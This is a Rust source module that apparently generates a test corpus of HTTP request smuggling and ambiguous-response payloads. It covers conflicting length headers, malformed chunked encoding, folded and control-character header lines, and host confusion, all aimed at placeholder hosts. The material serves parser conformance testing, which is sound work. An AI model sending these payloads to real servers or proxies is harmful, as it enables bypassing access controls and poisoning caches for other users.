//! Categories of request smuggling, each in several variants.

/// The hidden request.
const HIDDEN: &str = "GET /hidden HTTP/1.1\r\nHost: site.test\r\nX-H: 1\r\n\r\n";

/// The name of a category, and the bytes of its variants.
pub(super) struct Category {
    pub(super) name: &'static str,
    pub(super) variants: Vec<Vec<u8>>,
}

/// Builds a request with these field lines and this body.
fn posted(lines: &str, body: &str) -> Vec<u8> {
    latin1(&format!("POST /seen HTTP/1.1\r\nHost: site.test\r\n{lines}\r\n{body}"))
}

/// Encodes ISO 8859-1.
fn latin1(text: &str) -> Vec<u8> {
    text.chars().map(|c| u8::try_from(u32::from(c)).unwrap()).collect()
}

/// Builds variants for lines that parsers may take for `Transfer-Encoding: chunked`. The hidden request
/// is after the chunks and within the length, or the reverse.
fn disputed(lines: &[&str]) -> Vec<Vec<u8>> {
    let mut all = Vec::new();
    for line in lines {
        let behind = format!("0\r\n\r\n{HIDDEN}");
        let length = format!("Content-Length: {}\r\n", behind.len());
        let within = format!("{:x}\r\n{HIDDEN}\r\n0\r\n\r\n", HIDDEN.len());
        let short = format!("Content-Length: {}\r\n", within.find("\r\n").unwrap_or(0) + 2);
        for (length, body) in [(&length, &behind), (&short, &within)] {
            all.push(posted(&format!("{length}{line}\r\n"), body));
            all.push(posted(&format!("{line}\r\n{length}"), body));
        }
        all.push(posted(&format!("{line}\r\n"), &behind));
    }
    all
}

/// Builds variants for lines that parsers may take for a length. The body is the hidden request.
fn lengths(lines: &[&str]) -> Vec<Vec<u8>> {
    let length = HIDDEN.len().to_string();
    let posted = |line: &&str| posted(&format!("{}\r\n", line.replace("{n}", &length)), HIDDEN);
    lines.iter().map(posted).collect()
}

/// Builds requests with these chunked bodies.
fn chunked(bodies: &[String]) -> Vec<Vec<u8>> {
    bodies.iter().map(|body| posted("Transfer-Encoding: chunked\r\n", body)).collect()
}

/// Builds variants of these heads followed by the hidden request.
fn raw(heads: &[&str]) -> Vec<Vec<u8>> {
    heads.iter().map(|head| latin1(&format!("{head}{HIDDEN}"))).collect()
}

pub(super) fn all() -> Vec<Category> {
    let h = HIDDEN.len();
    let category = |name, variants| Category { name, variants };
    vec![
        category("both lengths", disputed(&["Transfer-Encoding: chunked", "transfer-encoding: CHUNKED"])),
        category("two codings", disputed(&[
            "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
            "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
            "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
            "Transfer-Encoding: cow\r\nTransfer-Encoding: chunked",
        ])),
        category("lists of codings", disputed(&[
            "Transfer-Encoding: chunked, identity",
            "Transfer-Encoding: identity, chunked",
            "Transfer-Encoding: chunked, chunked",
            "Transfer-Encoding: ,chunked",
            "Transfer-Encoding: chunked,",
            "Transfer-Encoding: gzip, chunked",
        ])),
        category("spellings of chunked", disputed(&[
            "Transfer-Encoding: xchunked",
            "Transfer-Encoding: chunkedx",
            "Transfer-Encoding: chunk",
            "Transfer-Encoding: \"chunked\"",
            "Transfer-Encoding: chunked;q=1",
            "Transfer-Encoding: x chunked",
            "Transfer-Encoding: chunked x",
        ])),
        category("controls around chunked", disputed(&[
            "Transfer-Encoding:\u{b}chunked",
            "Transfer-Encoding: \u{c}chunked",
            "Transfer-Encoding: chunked\0",
            "Transfer-Encoding: \u{a0}chunked",
            "Transfer-Encoding: chunked\u{1}",
            "Transfer-Encoding: \u{7f}chunked",
        ])),
        category("folded lines", disputed(&[
            "Transfer-Encoding:\r\n chunked",
            "Transfer-Encoding:\r\n\tchunked",
            "X: 1\r\n Transfer-Encoding: chunked",
            "X:\r\n Transfer-Encoding: chunked",
        ])),
        category("blanks around names", disputed(&[
            "Transfer-Encoding : chunked",
            "Transfer-Encoding\t: chunked",
            " Transfer-Encoding: chunked",
            "Transfer-Encoding\u{b}: chunked",
            "Transfer Encoding: chunked",
        ])),
        category("characters in names", disputed(&[
            "Transfer_Encoding: chunked",
            "Transfer-Encoding\0: chunked",
            "\0Transfer-Encoding: chunked",
            "Transfer\u{ad}-Encoding: chunked",
            "Transfer-Encod\u{131}ng: chunked".replace('\u{131}', "\u{ed}").as_str(),
            "\"Transfer-Encoding\": chunked",
            "content_length: 5\r\nTransfer_Encoding: chunked",
        ])),
        category("line ends", disputed(&[
            "X: 1\nTransfer-Encoding: chunked",
            "X: 1\rTransfer-Encoding: chunked",
            "X: 1\r\r\nTransfer-Encoding: chunked",
            "X: 1\n\rTransfer-Encoding: chunked",
            "Transfer-Encoding: chunked\nX: 1",
            "Transfer-Encoding: chunked\r\r",
        ])),
        category("several lengths", lengths(&[
            "Content-Length: 0\r\nContent-Length: {n}",
            "Content-Length: {n}\r\nContent-Length: 0",
            "Content-Length: {n}, 0",
            "Content-Length: 0, {n}",
            "Content-Length: {n}, {n}",
            "Content-Length: {n}\r\nContent-Length: {n}",
            "Content-Length: {n}\r\nContent_Length: 0",
        ])),
        category("spellings of numbers", lengths(&[
            "Content-Length: +{n}",
            "Content-Length: -1",
            "Content-Length: 0x0",
            "Content-Length: {n}.0",
            "Content-Length: {n} 0",
            "Content-Length: 0{n}",
            "Content-Length: {n};0",
            "Content-Length: \u{b}{n}",
            "Content-Length: \"{n}\"",
            "Content-Length:",
            "Content-Length: {n}\0",
            "Content-Length: 1e1",
            "Content-Length: 0_0",
        ])),
        category("large numbers", lengths(&[
            "Content-Length: 18446744073709551615{n}",
            "Content-Length: 18446744073709551616",
            "Content-Length: 99999999999999999999999999",
        ])),
        category("names of lengths", lengths(&[
            "Content-Length : {n}",
            "Content Length: {n}",
            "Content-Length\t: {n}",
            "X: 1\nContent-Length: {n}",
            "X: 1\rContent-Length: {n}",
            "X: 1\r\n Content-Length: {n}",
            "Content\0-Length: {n}",
        ])),
        category("chunk sizes", chunked(&[
            format!("0x{h:x}\r\n{HIDDEN}\r\n0\r\n\r\n"),
            format!("+{h:x}\r\n{HIDDEN}\r\n0\r\n\r\n"),
            format!("-1\r\n{HIDDEN}\r\n0\r\n\r\n"),
            format!(" {h:x}\r\n{HIDDEN}\r\n0\r\n\r\n"),
            format!("{h:x} \r\n{HIDDEN}\r\n0\r\n\r\n"),
            format!("{h:x}_0\r\n{HIDDEN}\r\n0\r\n\r\n"),
            format!("{h:x}x\r\n{HIDDEN}\r\n0\r\n\r\n"),
            format!("1{h:016x}\r\n{HIDDEN}\r\n0\r\n\r\n"),
            format!("100000000\r\n{HIDDEN}\r\n0\r\n\r\n"),
            format!("0000000000000000{h:x}\r\n{HIDDEN}\r\n0\r\n\r\n"),
            format!("\r\n{HIDDEN}\r\n0\r\n\r\n"),
        ])),
        category("chunk ends", chunked(&[
            format!("1\r\nZ{h:x}\r\n{HIDDEN}\r\n0\r\n\r\n"),
            format!("1\r\nZX\r\n0\r\n\r\n{HIDDEN}"),
            format!("1\r\nZ\n0\r\n\r\n{HIDDEN}"),
            format!("1\r\nZ\r0\r\n\r\n{HIDDEN}"),
            format!("1\r\nZXX0\r\n\r\n{HIDDEN}"),
            format!("1\nZ\r\n0\r\n\r\n{HIDDEN}"),
            format!("1\r\r\nZ\r\n0\r\n\r\n{HIDDEN}"),
        ])),
        category("chunk extensions", chunked(&[
            format!("1;a\nZ\r\n0\r\n\r\n{HIDDEN}"),
            format!("1;\nZ\r\n{h:x}\r\n{HIDDEN}\r\n0\r\n\r\n"),
            format!("1;a=\"\r\nZ\r\n0\r\n\r\n{HIDDEN}"),
            format!("1;a\rb\r\nZ\r\n0\r\n\r\n{HIDDEN}"),
            format!("0;a\n\n{HIDDEN}\r\n\r\n"),
            format!("1;\0\r\nZ\r\n0\r\n\r\n{HIDDEN}"),
        ])),
        category("last chunks", chunked(&[
            format!("0\n\n{HIDDEN}"),
            format!("0\r\n\n{HIDDEN}"),
            format!("0\r\n\r{HIDDEN}"),
            format!("00\r\n\r\n{HIDDEN}"),
            format!("0\r\nX\r\n\r\n{HIDDEN}"),
            format!("-0\r\n\r\n{HIDDEN}"),
            format!("0\r\n{HIDDEN}"),
        ])),
        category("trailers", chunked(&[
            format!("0\r\nContent-Length: {h}\r\n\r\n{HIDDEN}"),
            format!("0\r\nTransfer-Encoding: chunked\r\n\r\n{HIDDEN}"),
            format!("0\r\nHost: other.test\r\n\r\n{HIDDEN}"),
            format!("0\r\nX: 1\nContent-Length: {h}\r\n\r\n{HIDDEN}"),
            format!("0\r\n Content-Length: {h}\r\n\r\n{HIDDEN}"),
            format!("0\r\ncontent_length: {h}\r\n\r\n{HIDDEN}"),
        ])),
        category("old versions", [
            "POST /seen HTTP/1.0\r\nHost: site.test\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
            "POST /seen HTTP/1.0\r\nHost: site.test\r\nConnection: keep-alive\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
            "GET /seen\r\n",
            "GET /seen HTTP/0.9\r\n\r\n",
            "GET /seen HTTP/1.1x\r\nHost: site.test\r\n\r\n",
            "GET /seen HTTP/2.0\r\nHost: site.test\r\n\r\n",
            "GET /seen http/1.1\r\nHost: site.test\r\n\r\n",
            "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        ].iter().flat_map(|head| raw(&[head])).collect()),
        category("first lines", raw(&[
            "GET /seen HTTP/1.1 HTTP/1.1\r\nHost: site.test\r\n\r\n",
            "GET /a /seen HTTP/1.1\r\nHost: site.test\r\n\r\n",
            "GET\t/seen\tHTTP/1.1\r\nHost: site.test\r\n\r\n",
            "GET  /seen HTTP/1.1\r\nHost: site.test\r\n\r\n",
            "GET /seen\u{b}HTTP/1.1\r\nHost: site.test\r\n\r\n",
            "GET /se\0en HTTP/1.1\r\nHost: site.test\r\n\r\n",
            "GET /se\ren HTTP/1.1\r\nHost: site.test\r\n\r\n",
            "GET /seen\nX: y HTTP/1.1\r\nHost: site.test\r\n\r\n",
            "G\u{e9}T /seen HTTP/1.1\r\nHost: site.test\r\n\r\n",
            "GET /se\u{e9}n HTTP/1.1\r\nHost: site.test\r\n\r\n",
            " GET /seen HTTP/1.1\r\nHost: site.test\r\n\r\n",
            "\r\nGET /seen HTTP/1.1\r\nHost: site.test\r\n\r\n",
            "\nGET /seen HTTP/1.1\r\nHost: site.test\r\n\r\n",
        ])),
        category("hosts", raw(&[
            "GET /seen HTTP/1.1\r\nHost: site.test\r\nHost: other.test\r\n\r\n",
            "GET http://other.test/seen HTTP/1.1\r\nHost: site.test\r\n\r\n",
            "GET http://site.test@other.test/seen HTTP/1.1\r\nHost: site.test\r\n\r\n",
            "GET http://other.test:80:90/seen HTTP/1.1\r\nHost: site.test\r\n\r\n",
            "GET /seen HTTP/1.1\r\nHost: site.test\r\n Host: other.test\r\n\r\n",
            "GET /seen HTTP/1.1\r\nHost: site.test, other.test\r\n\r\n",
            "GET /seen HTTP/1.1\r\nHost: site.test/x\r\n\r\n",
            "GET /seen HTTP/1.1\r\nHost : site.test\r\n\r\n",
            "GET @other.test/seen HTTP/1.1\r\nHost: site.test\r\n\r\n",
            "GET //other.test/seen HTTP/1.1\r\nHost: site.test\r\n\r\n",
        ])),
        category("options of the connection", {
            let named = |option: &str| {
                format!("Connection: {option}\r\nContent-Length: {h}\r\n")
            };
            let options = ["Content-Length", "content-length, close", "Host", "Transfer-Encoding", "Via"];
            let mut all: Vec<Vec<u8>> =
                options.iter().map(|option| posted(&named(option), HIDDEN)).collect();
            let coding = "Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked\r\n";
            all.push(posted(coding, &format!("{h:x}\r\n{HIDDEN}\r\n0\r\n\r\n")));
            all
        }),
        category("bodies that surprise", {
            let mut all = Vec::new();
            for method in ["GET", "HEAD", "DELETE", "OPTIONS", "TRACE", "PATCH", "get", "X"] {
                let head = format!("{method} /seen HTTP/1.1\r\nHost: site.test\r\n");
                all.push(latin1(&format!("{head}Content-Length: {h}\r\n\r\n{HIDDEN}")));
                all.push(latin1(&format!(
                    "{head}Transfer-Encoding: chunked\r\n\r\n{h:x}\r\n{HIDDEN}\r\n0\r\n\r\n"
                )));
                all.push(latin1(&format!("{head}Content-Length: 0\r\n\r\n{HIDDEN}")));
            }
            all
        }),
        category("expectations and upgrades", {
            let upgrade = "Connection: Upgrade\r\nUpgrade: websocket\r\n";
            let length = format!("Content-Length: {h}\r\n");
            vec![
                posted(&format!("Expect: 100-continue\r\n{length}"), HIDDEN),
                posted(&format!("Expect: 100-Continue\r\nExpect: 100-continue\r\n{length}"), HIDDEN),
                posted(&format!("Expect: 100-continue, x\r\n{length}"), HIDDEN),
                posted("Expect: 100-continue\r\n", HIDDEN),
                posted("Expect:\r\n 100-continue\r\n", HIDDEN),
                posted(&format!("{upgrade}{length}"), HIDDEN),
                posted(&format!("{upgrade}Content-Length: 0\r\n"), HIDDEN),
                posted(upgrade, HIDDEN),
                posted("Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA\r\n", HIDDEN),
            ]
        }),
        category("fields that end lines", {
            let fields = ["X: a\r\n\r", "X: a%0d%0aContent-Length: 0", "X: \u{10a}", "X: a\u{85}b", "X\r: a", "X: a\r\n\u{a0}b"];
            fields
                .iter()
                .map(|field| field.replace('\u{10a}', "\u{c4}\u{8a}"))
                .map(|field| posted(&format!("{field}\r\nContent-Length: {h}\r\n"), HIDDEN))
                .collect()
        }),
    ]
}

/// Returns names and bytes of ambiguous responses to a single request.
pub(super) fn responses() -> Vec<(&'static str, String)> {
    let hidden = "HTTP/1.1 200 OK\r\nContent-Length: 4\r\nX-Hidden: 1\r\n\r\nevil";
    let h = hidden.len();
    let with = |lines: &str, body: &str| format!("HTTP/1.1 200 OK\r\n{lines}\r\n{body}");
    let chunks = |body: String| with("Transfer-Encoding: chunked\r\n", &body);
    vec![
        (
            "both lengths",
            with(
                "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n",
                &format!("0\r\n\r\n{hidden}"),
            ),
        ),
        (
            "both, long",
            with(
                &format!("Transfer-Encoding: chunked\r\nContent-Length: {}\r\n", h + 5),
                &format!("0\r\n\r\n{hidden}"),
            ),
        ),
        ("two lengths", with(&format!("Content-Length: 0\r\nContent-Length: {h}\r\n"), hidden)),
        ("list of lengths", with(&format!("Content-Length: 0, {h}\r\n"), hidden)),
        (
            "same length twice",
            with(&format!("Content-Length: {h}\r\nContent-Length: {h}\r\n"), hidden),
        ),
        ("signed length", with(&format!("Content-Length: +{h}\r\n"), hidden)),
        ("hexadecimal length", with("Content-Length: 0x0\r\n", hidden)),
        ("huge length", with("Content-Length: 18446744073709551616\r\n", hidden)),
        ("narrow length", with("Content-Length: 4294967296\r\n", hidden)),
        ("two responses", with("Content-Length: 4\r\n", &format!("good{hidden}"))),
        ("behind none", format!("HTTP/1.1 204 No Content\r\n\r\n{hidden}")),
        ("behind 304", format!("HTTP/1.1 304 Not Modified\r\nContent-Length: {h}\r\n\r\n{hidden}")),
        (
            "none with a length",
            format!("HTTP/1.1 204 No Content\r\nContent-Length: {h}\r\n\r\n{hidden}"),
        ),
        (
            "none with chunks",
            format!(
                "HTTP/1.1 204 No Content\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{hidden}"
            ),
        ),
        (
            "interim with a length",
            format!("HTTP/1.1 103 Hints\r\nContent-Length: {h}\r\n\r\n{hidden}"),
        ),
        (
            "coding and more",
            with("Transfer-Encoding: gzip, chunked\r\n", &format!("0\r\n\r\n{hidden}")),
        ),
        (
            "coding twice",
            with("Transfer-Encoding: chunked, chunked\r\n", &format!("0\r\n\r\n{hidden}")),
        ),
        (
            "two codings",
            with(
                "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n",
                &format!("0\r\n\r\n{hidden}"),
            ),
        ),
        (
            "coding not last",
            with("Transfer-Encoding: chunked, identity\r\n", &format!("0\r\n\r\n{hidden}")),
        ),
        (
            "coding with a blank",
            with("Transfer-Encoding : chunked\r\n", &format!("0\r\n\r\n{hidden}")),
        ),
        (
            "folded coding",
            with("Transfer-Encoding:\r\n chunked\r\n", &format!("0\r\n\r\n{hidden}")),
        ),
        (
            "coding in 1.0",
            format!("HTTP/1.0 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{hidden}"),
        ),
        (
            "CR in a field",
            with(&format!("X: a\rTransfer-Encoding: chunked\r\nContent-Length: {h}\r\n"), hidden),
        ),
        (
            "LF in a field",
            with(&format!("X: a\nTransfer-Encoding: chunked\r\nContent-Length: {h}\r\n"), hidden),
        ),
        ("NUL in a field", with(&format!("X: a\0b\r\nContent-Length: {h}\r\n"), hidden)),
        ("head of LF", format!("HTTP/1.1 200 OK\nContent-Length: 4\n\ngood{hidden}")),
        (
            "CR in the first line",
            format!("HTTP/1.1 200 O\rK\r\nContent-Length: {h}\r\n\r\n{hidden}"),
        ),
        (
            "LF in the first line",
            format!("HTTP/1.1 200 O\nX: K\r\nContent-Length: {h}\r\n\r\n{hidden}"),
        ),
        ("size with 0x", chunks(format!("0x{h:x}\r\n{hidden}\r\n0\r\n\r\n"))),
        ("size with a sign", chunks(format!("+{h:x}\r\n{hidden}\r\n0\r\n\r\n"))),
        ("size with more", chunks(format!("{h:x}z\r\n{hidden}\r\n0\r\n\r\n"))),
        ("size too wide", chunks(format!("1{h:016x}\r\n{hidden}\r\n0\r\n\r\n"))),
        ("size ends with LF", chunks(format!("1\nZ\r\n0\r\n\r\n{hidden}"))),
        ("extension with LF", chunks(format!("1;a\nZ\r\n0\r\n\r\n{hidden}"))),
        ("data without CRLF", chunks(format!("1\r\nZ0\r\n\r\n{hidden}"))),
        ("end with LF", chunks(format!("0\n\n{hidden}"))),
        ("trailing length", chunks(format!("0\r\nContent-Length: {h}\r\n\r\n{hidden}"))),
        ("trailing LF", chunks(format!("0\r\nX: a\nY: b\r\n\r\n{hidden}"))),
        ("no version", format!("200 OK\r\n\r\n{hidden}")),
        ("another version", format!("HTTP/2.0 200 OK\r\n\r\n{hidden}")),
        ("status of two digits", format!("HTTP/1.1 20 OK\r\n\r\n{hidden}")),
        ("status of four digits", format!("HTTP/1.1 2000 OK\r\n\r\n{hidden}")),
        ("switched unasked", format!("HTTP/1.1 101 Switching\r\nUpgrade: x\r\n\r\n{hidden}")),
        (
            "named length",
            with(&format!("Connection: Content-Length\r\nContent-Length: {h}\r\n"), hidden),
        ),
        (
            "named coding",
            with(
                "Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked\r\n",
                &format!("{h:x}\r\n{hidden}\r\n0\r\n\r\n"),
            ),
        ),
    ]
}
